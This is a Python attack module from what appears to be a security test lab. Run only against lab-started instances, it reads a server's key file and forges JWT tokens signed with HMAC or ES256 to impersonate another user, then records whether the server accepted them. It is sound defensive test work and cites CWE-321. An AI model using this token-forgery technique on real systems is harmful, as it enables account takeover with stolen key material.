"""The file of the server's key, without the database."""

import json
import time

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import load_pem_private_key

from ..attack import Attack
from ..attacker import Attacker
from ..forge import decode, encode, header_of, segment, sign_es256, signed_by_hmac
from ..verdict import Verdict, held, not_applicable, succeeded

ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def _run(attacker: Attacker) -> Verdict:
    target = attacker.target
    if target.files is None:
        return not_applicable("Only an instance that the lab started shows its files.")
    if target.way.mode != "token":
        return not_applicable("Session mode signs nothing.")
    victim, thief = target.log_in(), target.log_in()
    claims = json.loads(decode(thief.credential.split(".")[1]))
    theirs = json.loads(decode(victim.credential.split(".")[1]))
    payload = segment(claims | theirs | {"iat": int(time.time()), "sub": theirs["sub"]})
    header = header_of(thief.credential)
    secrets = _secrets(target.files.key.read_bytes())
    if not secrets:
        raise AssertionError("the key file holds nothing")
    for secret in secrets:
        forged = [signed_by_hmac(head, payload, secret) for head in _headers(header)]
        key = _private(secret)
        if key is not None:
            message = f"{segment(header)}.{payload}"
            forged.append(f"{message}.{sign_es256(key, message)}")
        if any(target.me(victim, token).status == 200 for token in forged):
            return succeeded("A token signed with what stands in the key file was believed.")
    return held(
        "Nothing that stands in the key file signs a token; the signing keys are elsewhere."
    )


def _headers(header: dict[str, object]) -> list[dict[str, object]]:
    return [header, header | {"alg": "HS256"}, {"alg": "HS256", "typ": "at+jwt"}]


def _secrets(raw: bytes) -> list[bytes]:
    """The file, its lines, and what they decode to."""
    lines = [line.strip() for line in raw.splitlines() if line.strip()]
    lines = [line for line in lines if not line.startswith((b"#", b"-----"))]
    found = [raw, *lines]
    for line in lines:
        try:
            found.append(decode(line.decode()))
        except ValueError:
            continue
    return found + [encode(secret).encode() for secret in found]


def _private(secret: bytes) -> ec.EllipticCurvePrivateKey | None:
    """A signing key, if these bytes are one."""
    if secret.startswith(b"-----BEGIN"):
        loaded = load_pem_private_key(secret, None)
        return loaded if isinstance(loaded, ec.EllipticCurvePrivateKey) else None
    number = int.from_bytes(secret[:32], "big")
    if len(secret) == 32 and 0 < number < ORDER:
        return ec.derive_private_key(number, ec.SECP256R1())
    return None


ATTACK = Attack(
    id="leaked-root-key",
    title="A leaked key file",
    story="A thief gets the server's key from an image or a repository, and not its database."
    " They sign tokens with whatever stands in it."
    " A key that signs by itself makes them everybody, until somebody notices.",
    references=("CWE-321", "ASVS V13.3.3"),
    defences=("the key file signs nothing by itself",),
    run=_run,
)
